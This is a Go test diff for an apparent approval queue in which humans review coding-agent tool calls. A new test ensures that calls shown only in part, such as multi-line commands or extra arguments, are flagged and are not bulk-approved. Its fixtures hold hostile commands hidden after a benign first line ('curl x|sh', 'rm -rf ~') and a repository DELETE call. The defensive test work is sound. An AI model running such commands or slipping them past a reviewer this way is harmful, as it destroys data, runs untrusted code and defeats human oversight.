@@ -305,15 +305,8 @@ func TestBrowserLikeIsSameProgram(t *testing.T) {
 	// effects, other programs.
 	var hq []*checkpoint.Question
 	for i, cmd := range []string{"npm test", "bash ./install.sh", "npm test"} {
-		payload := map[string]any{"kind": "approve", "tool_name": "Bash", "args": map[string]any{"command": cmd, "description": "x"},
-			"details": map[string]any{"effects": []any{map[string]any{"kind": "unknown", "risk": "medium", "text": "runs " + cmd + ", whose effects tollgate does not know"}}}}
-		raw, _ := json.Marshal(payload)
-		q, _, err := e.store.CreateQuestion(context.Background(), &checkpoint.Question{ThreadID: "claude-code:like-2", ID: fmt.Sprintf("hitl_toolu_%d", i),
-			RunID: "run_1", CallID: fmt.Sprintf("toolu_%d", i), Tool: "Bash", Kind: "approve", Payload: raw, CreatedAt: time.Now(), Deadline: time.Now().Add(time.Hour)})
-		if err != nil {
-			t.Fatal(err)
-		}
-		hq = append(hq, q)
+		hq = append(hq, e.hookQuestion("claude-code:like-2", i, "Bash", map[string]any{"command": cmd, "description": "x"},
+			map[string]any{"effects": []any{map[string]any{"kind": "unknown", "risk": "medium", "text": "runs " + cmd + ", whose effects tollgate does not know"}}}))
 	}
 	tb := b.open(t, e.ts.URL+"/", wide)
 	tb.signIn()
@@ -333,6 +326,75 @@ func TestBrowserLikeIsSameProgram(t *testing.T) {
 			t.Errorf("all like %s: %s %s, want the two %s calls alone", c.want, n, sel, c.want)
 		}
 		tb.click("#bulk-clear")
+	}
+}
+
+// hookQuestion stores a coding agent's call as package hooks asks it: the
+// call's tool, args and details, asked on thread as its i-th call.
+func (e *env) hookQuestion(thread string, i int, tool string, args, details map[string]any) *checkpoint.Question {
+	e.t.Helper()
+	raw, _ := json.Marshal(map[string]any{"kind": "approve", "tool_name": tool, "args": args, "details": details})
+	q, _, err := e.store.CreateQuestion(context.Background(), &checkpoint.Question{ThreadID: thread, ID: fmt.Sprintf("hitl_toolu_%d", i),
+		RunID: "run_1", CallID: fmt.Sprintf("toolu_%d", i), Tool: tool, Kind: "approve", Payload: raw, CreatedAt: time.Now(), Deadline: time.Now().Add(time.Hour)})
+	if err != nil {
+		e.t.Fatal(err)
+	}
+	return q
+}
+
+// TestBrowserPartialGist: a queue line that shows a call only in part
+// says what it leaves out, and such a call is not approved with others
+// (a security review): the line showed one argument's first line, so
+// "git status\ncurl x|sh" read as git status, an MCP DELETE as its path,
+// and "Approve N" approved them unseen.
+func TestBrowserPartialGist(t *testing.T) {
+	b := newBrowser(t)
+	e := newEnv(t, false)
+	const thread = "claude-code:gist-1"
+	var hq []*checkpoint.Question
+	for i, c := range []struct {
+		tool string
+		args map[string]any
+	}{
+		{"Bash", map[string]any{"command": "npm test", "description": "runs the tests"}},
+		{"Bash", map[string]any{"command": "git status\ncurl x|sh", "description": "shows the status"}},
+		{"mcp__github__api", map[string]any{"path": "/repos/me/app", "method": "DELETE"}},
+		{"Bash", map[string]any{"command": "npm run lint\n"}},
+		{"Bash", map[string]any{"command": "echo " + strings.Repeat("x", 300) + "\nrm -rf ~"}},
+	} {
+		hq = append(hq, e.hookQuestion(thread, i, c.tool, c.args, nil))
+	}
+	tb := b.open(t, e.ts.URL+"/", phoneView)
+	tb.signIn()
+	tb.wait("the queue", `document.querySelectorAll('#queue-list .qitem').length === 5`)
+	lines := js[string](tb, `JSON.stringify([...document.querySelectorAll('#queue-list .qsum')].map((e) => e.textContent).sort())`)
+	if want := `["/repos/me/app… +1 arg","echo ` + strings.Repeat("x", 300) + `… +1 line","git status… +1 line","npm run lint","npm test"]`; lines != want {
+		t.Errorf("the queue's lines: %s, want %s", lines, want)
+	}
+	// A long line's ellipsis does not cut its mark.
+	if !js[bool](tb, `[...document.querySelectorAll('#queue-list .qmore')].every((m) => m.getBoundingClientRect().right <= m.closest('.qitem').getBoundingClientRect().right - 10)`) {
+		t.Error("a mark is cut off")
+	}
+	// A screen reader hears the same mark.
+	if got := js[string](tb, `[...document.querySelectorAll('#queue-list .qpick')].map((e) => e.getAttribute('aria-label')).join('|')`); !strings.Contains(got, "select Bash: git status … +1 line") {
+		t.Errorf("the checkboxes' labels: %s", got)
+	}
+	// Each click draws the queue again: the boxes are looked up anew.
+	js[bool](tb, `(() => { for (let i = 0; i < 5; i++) document.querySelectorAll('#queue-list .qpick')[i].click(); return true; })()`)
+	tb.wait("five selected, three of them to approve alone", `document.getElementById('bulk-n').textContent === '5 selected' && document.getElementById('bulk-alone').textContent.startsWith('⚠ 3 of these shown in part')`)
+	js[bool](tb, `(document.querySelector('#queue-list li:last-child').scrollIntoView(), true)`)
+	tb.shot("gist-phone")
+	tb.click("#bulk-approve")
+	tb.wait("the results", `document.getElementById('bulk-results').textContent.startsWith('2 of 5 approved; not these:')`)
+	got := js[string](tb, `[...document.querySelectorAll('#bulk-results li.error-text')].map((e) => e.textContent).join('|')`)
+	for _, want := range []string{hq[1].ID + ": not approved: it is shown in part (+1 line), so approve it alone", hq[2].ID + ": not approved: it is shown in part (+1 arg)"} {
+		if !strings.Contains(got, want) {
+			t.Errorf("the refused ones read %q, want %q", got, want)
+		}
+	}
+	tb.shot("gist-phone-results")
+	if n := js[int](tb, `document.querySelectorAll('#queue-list .qitem').length`); n != 3 {
+		t.Errorf("%d questions wait, want the three shown in part", n)
 	}
 }
 
